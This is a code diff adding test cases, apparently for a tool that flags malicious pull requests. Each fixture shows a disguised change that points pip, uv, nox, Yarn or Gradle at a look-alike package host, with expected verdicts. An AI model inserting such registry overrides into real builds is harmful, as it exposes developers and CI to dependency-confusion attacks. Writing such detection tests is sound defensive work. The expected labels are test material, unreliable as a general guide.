@@ -3019,6 +3019,129 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['pip-extra-index'] },
   },
   {
+    id: 'attack-script-heredoc-writes-pip-conf',
+    description:
+      'The here-document index moved out of the workflow into the script it calls: a newcomer\'s "Simplify local setup" PR makes scripts/bootstrap.sh `cat` a [global] section with an extra-index-url into ~/.config/pip/pip.conf, and the Makefile write a Yarn registry on a look-alike host into .yarnrc.yml the same way. Every developer and CI job that runs them then resolves packages through those hosts.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-py',
+        number: 8821,
+        title: 'Simplify local setup',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'scripts/bootstrap.sh',
+            base: lines('#!/usr/bin/env bash', 'set -euo pipefail', 'python -m venv .venv', '.venv/bin/pip install -r requirements.txt'),
+            head: lines(
+              '#!/usr/bin/env bash',
+              'set -euo pipefail',
+              'mkdir -p ~/.config/pip',
+              'cat > ~/.config/pip/pip.conf <<EOF',
+              '[global]',
+              'timeout = 60',
+              'extra-index-url = https://wheels.tint-cache.dev/simple',
+              'EOF',
+              'python -m venv .venv',
+              '.venv/bin/pip install -r requirements.txt',
+            ),
+          },
+          {
+            path: 'Makefile',
+            base: lines('.PHONY: setup', 'setup:', '\t./scripts/bootstrap.sh', '\tyarn install --immutable'),
+            head: lines('.ONESHELL:', '.PHONY: setup', 'setup:', '\t./scripts/bootstrap.sh', "\tcat > .yarnrc.yml <<-'EOF'", '\tnpmRegistryServer: "https://registry.yarnpkg-cache.dev"', '\tEOF', '\tyarn install --immutable'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['pip-extra-index', 'npm-registry-override'] },
+  },
+  {
+    id: 'attack-image-heredoc-writes-uv-index',
+    description:
+      "A Dockerfile's BuildKit here-document as the config file: a newcomer's \"smaller image\" PR adds `COPY <<EOF /etc/uv/uv.toml` with an extra index and uv's unsafe-best-match strategy, so every `uv sync` in the image takes each package from whichever of PyPI and that host offers the higher version, as pip's --extra-index-url does.",
+    fixture: () =>
+      attackPr({
+        repo: 'tint-py',
+        number: 8822,
+        title: 'Smaller image',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'Dockerfile',
+            base: lines('FROM python:3.12-slim', 'COPY --from=ghcr.io/astral-sh/uv:0.5.11 /uv /bin/uv', 'WORKDIR /app', 'COPY . .', 'RUN uv sync --frozen'),
+            head: lines(
+              '# syntax=docker/dockerfile:1',
+              'FROM python:3.12-slim',
+              'COPY --from=ghcr.io/astral-sh/uv:0.5.11 /uv /bin/uv',
+              'COPY <<EOF /etc/uv/uv.toml',
+              'extra-index-url = ["https://wheels.tint-cache.dev/simple"]',
+              'index-strategy = "unsafe-best-match"',
+              'EOF',
+              'WORKDIR /app',
+              'COPY . .',
+              'RUN uv sync --no-cache',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['pip-extra-index'] },
+  },
+  {
+    id: 'attack-noxfile-argument-in-unchanged-call',
+    description:
+      'The noxfile index hidden in the diff: the `session.install(` line and the requirement arguments stay as they were, and the PR adds only two argument lines in the middle, `"--extra-index-url",` and the URL. Read as the call they belong to, they make every nox run take each package from whichever of PyPI and that host offers the higher version.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-py',
+        number: 8823,
+        title: 'Test on Python 3.13',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'noxfile.py',
+            base: lines('import nox', '', '', '@nox.session(python=["3.11", "3.12"])', 'def tests(session):', '    session.install(', '        "pytest",', '        "pytest-cov",', '        "-r",', '        "requirements.txt",', '    )', '    session.run("pytest")'),
+            head: lines(
+              'import nox',
+              '',
+              '',
+              '@nox.session(python=["3.11", "3.12", "3.13"])',
+              'def tests(session):',
+              '    session.install(',
+              '        "pytest",',
+              '        "pytest-cov",',
+              '        "--extra-index-url",',
+              '        "https://wheels.tint-cache.dev/simple",',
+              '        "-r",',
+              '        "requirements.txt",',
+              '    )',
+              '    session.run("pytest")',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['pip-extra-index'] },
+  },
+  {
+    id: 'attack-gradle-init-script-repository',
+    description:
+      'A Gradle init script as the repository override: a newcomer\'s "cache dependencies in CI" PR adds gradle/init.gradle, whose `allprojects { repositories { … } }` puts an unknown Maven host before Central for every project, and makes the CI build run it with `--init-script`. No build.gradle or settings.gradle changes.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-jvm',
+        number: 8824,
+        title: 'Cache dependencies in CI',
+        author: 'newcomer',
+        files: [
+          { path: 'gradle/init.gradle', status: 'added', head: lines('allprojects {', '    repositories {', "        maven { url 'https://maven.tint-cache.dev/releases' }", '        mavenCentral()', '    }', '}') },
+          {
+            path: '.github/workflows/build.yml',
+            base: lines('name: build', 'on: [push, pull_request]', 'jobs:', '  build:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - run: ./gradlew build'),
+            head: lines('name: build', 'on: [push, pull_request]', 'jobs:', '  build:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - run: ./gradlew build --init-script gradle/init.gradle'),
+          },
+        ],
+      }),
+    expect: { level: ['medium', 'high'], action: ['needs_discussion', 'request_changes'], findings: ['maven-repository-override'] },
+  },
+  {
     id: 'attack-ci-npm-registry-on-command-line',
     description:
       "The npm twin of a registry override, kept out of .npmrc where reviewers look: a newcomer's \"speed up CI\" PR runs `npm ci --registry` against a host spelled like the public registry, and a Dockerfile sets NPM_CONFIG_REGISTRY to it: every package then comes from whoever holds that host.",
